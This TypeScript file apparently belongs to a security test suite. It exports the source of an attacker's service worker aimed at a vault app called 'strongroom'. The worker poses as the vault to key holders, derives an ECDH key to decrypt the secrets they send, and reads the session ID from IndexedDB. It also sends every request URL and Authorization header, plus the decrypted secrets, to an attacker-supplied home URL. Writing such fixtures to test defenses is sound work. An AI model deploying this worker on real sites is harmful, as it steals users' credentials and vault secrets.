/**
 * The source of the attacker's service worker. It imitates the vault towards keepers and reads the URL of every callback. It
 * posts to pages what it cannot send itself.
 */
export function ownWorker(home: string): string {
  return `
    const curve = { name: "ECDH", namedCurve: "P-256" };
    const keys = crypto.subtle.generateKey(curve, true, ["deriveKey"]);
    const tell = async (text) => {
      await fetch(${JSON.stringify(home)}, { method: "POST", mode: "no-cors", body: text }).catch(() => {});
      for (const client of await clients.matchAll({ includeUncontrolled: true })) client.postMessage(text);
    };
    // A keeper hands its copy to a worker that names the session, whose ID is in the session hint.
    const sessionId = () => new Promise((resolve) => {
      const opening = indexedDB.open("strongroom");
      opening.onsuccess = () => {
        const asking = opening.result.transaction("values").objectStore("values").get("state");
        asking.onsuccess = () => resolve(JSON.parse(asking.result ?? "{}").hint?.split(":")[0] ?? "x");
      };
    });
    const greet = async () => {
      const { publicKey } = await keys;
      const raw = new Uint8Array(await crypto.subtle.exportKey("raw", publicKey));
      const wanted = new TextEncoder().encode(await sessionId());
      const frame = new Uint8Array([1, 0, 0, 0, raw.length + wanted.length, ...raw, ...wanted]);
      return new Response(frame, { headers: { "content-type": "application/vnd.strongroom.frames" } });
    };
    const take = async (request) => {
      const body = new Uint8Array(await request.arrayBuffer());
      const { privateKey } = await keys;
      const peer = await crypto.subtle.importKey("raw", body.slice(0, 65), curve, false, []);
      const key = await crypto.subtle.deriveKey({ name: "ECDH", public: peer }, privateKey, { name: "AES-GCM", length: 256 }, false, ["decrypt"]);
      const opened = await crypto.subtle.decrypt({ name: "AES-GCM", iv: body.slice(65, 77) }, key, body.slice(77));
      await tell(new TextDecoder().decode(opened));
      return new Response(null, { status: 204 });
    };
    addEventListener("install", (event) => event.waitUntil(skipWaiting()));
    addEventListener("activate", (event) => event.waitUntil(clients.claim()));
    addEventListener("fetch", (event) => {
      const { request } = event;
      const { pathname } = new URL(request.url);
      event.waitUntil(tell(request.url + " " + request.headers.get("authorization")));
      if (pathname === "/auth/keep") event.respondWith(request.method === "POST" ? take(request) : greet());
      if (pathname === "/auth/callback") event.respondWith(new Response("", { headers: { "content-type": "text/html" } }));
    });`;
}
